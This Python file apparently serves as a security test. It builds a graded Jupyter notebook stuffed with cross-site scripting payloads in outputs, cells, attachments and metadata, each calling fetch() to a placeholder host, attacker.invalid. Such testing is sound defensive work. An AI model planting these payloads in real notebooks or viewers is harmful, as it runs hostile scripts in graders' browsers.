"""A graded notebook that tries every known way to run scripts in its reader's browser."""

import json
from collections.abc import Iterator
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

#: The address that a script reports to if it runs. The address doesn't exist.
ATTACKER = "http://attacker.invalid"

#: The script of each attack; `%s` is the attack's name. Without spaces, a script needs no quotes in HTML.
SCRIPT = f"document.title='RUN-%s';(window.ran=window.ran||[]).push('%s');fetch('{ATTACKER}/%s')"

_PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def script(name: str) -> str:
    """Return the script of one attack."""
    return SCRIPT.replace("%s", name)


def in_html(name: str) -> str:
    """Return HTML that tries every way to run a script, and requests remote files."""
    run = script(name).replace('"', "&quot;")
    return "\n".join(
        [
            f"<script>{script(name)}</script>",
            f'<img src="x" onerror="{run}">',
            f'<svg onload="{run}"><script>{script(name)}</script></svg>',
            f'<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
            f'<details open ontoggle="{run}"><summary>open</summary></details>',
            f'<style>@import "{ATTACKER}/{name}.css";</style></style><script>{script(name)}</script>',
            f'<p style="background: url({ATTACKER}/{name}.gif)">a background</p>',
            f'<img src="{ATTACKER}/{name}.png">',
            f'<link rel="stylesheet" href="{ATTACKER}/{name}.css">',
            f'<meta http-equiv="refresh" content="0; url={ATTACKER}/{name}">',
            f'<object data="{ATTACKER}/{name}"></object><embed src="{ATTACKER}/{name}">',
            f'<video src="{ATTACKER}/{name}" autoplay></video>',
            f'<input autofocus onfocus="{run}">',
            f'<a href="javascript:{run}">a link</a>',
            f'<a href="data:text/html,<script>{run}</script>">another</a>',
            "</div></div></div></body>",
        ]
    )


def hostile_outputs() -> Iterator[NotebookNode]:
    """Yield a hostile output of each type that a page may show."""
    run = script("svg")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    yield _shown({"text/html": in_html("html")})
    yield _shown({"text/html": in_html("isolated")}, {"text/html": {"isolated": True}})
    yield _shown({"text/markdown": in_html("markdown-output")})
    yield _shown({"application/javascript": script("javascript")})
    yield _shown({"image/svg+xml": svg})
    yield _shown({"text/latex": f"$</div><script>{script('latex')}</script>$"})
    yield _shown({"text/vnd.mermaid": f"graph TD</pre><script>{script('mermaid')}</script>"})
    yield _shown({"image/png": f'"><script>{script("png")}</script>'})
    yield _shown(
        {"image/png": _PIXEL},
        {"image/png": {"width": f"1 onload={script('width')} onerror={script('width')}", "height": 1}},
    )
    yield _shown({"image/png": _PIXEL}, {"filenames": {"image/png": f"{ATTACKER}/filename.png"}})
    widget = {"model_id": f"</script><script>{script('widget')}</script>"}
    yield _shown({"application/vnd.jupyter.widget-view+json": widget, "text/plain": "a widget"})
    yield new_output("stream", name="stdout", text=in_html("stdout"))
    yield new_output("stream", name="stderr", text=f"\x1b[31m{in_html('stderr')}")
    lines = [f"\x1b[31m{in_html('traceback')}"]
    yield new_output("error", ename=in_html("ename"), evalue=in_html("evalue"), traceback=lines)


def _shown(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> NotebookNode:
    return NotebookNode(output_type="display_data", data=data, metadata=metadata or {})


def made_hostile(notebook: NotebookNode, answer: str, check: str) -> str:
    """Add each attack to a graded notebook, and return the notebook as text.

    The notebook stays valid, because an invalid one gets no grade, and nbconvert rejects it. `answer` is the
    name of an explanation, and `check` is the name of a check cell.
    """
    by_name = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell for cell in notebook.cells}
    by_name[answer].source = in_html("answer") + f"\n\n[link](javascript:{script('link')})"
    mime = f'image/png"><script>{script("attachment")}</script>'
    by_name[answer].attachments = {"a.png": {mime: _PIXEL}}
    by_name[answer].source += "\n\n![pasted](attachment:a.png)"
    notebook.cells[:0] = [
        new_markdown_cell(
            f'# {check}\n\n<h1 id="{answer}">a heading</h1><p id="{check}" class="score">points</p>'
        ),
        new_code_cell("'the outputs'", outputs=list(hostile_outputs())),
        new_code_cell("1", metadata={"tags": [f'"><script>{script("tag")}</script>']}),
        new_code_cell("2", metadata={"magics_language": f'"><script>{script("magics")}</script>'}),
        new_raw_cell(in_html("raw"), metadata={"raw_mimetype": "text/html"}),
    ]
    state = {
        "application/vnd.jupyter.widget-state+json": {"state": f"</script><script>{script('state')}</script>"}
    }
    notebook.metadata.widgets = state
    notebook.metadata.language_info = {"name": f'"><script>{script("language")}</script>'}
    notebook.metadata.title = in_html("title")
    return json.dumps(notebook)
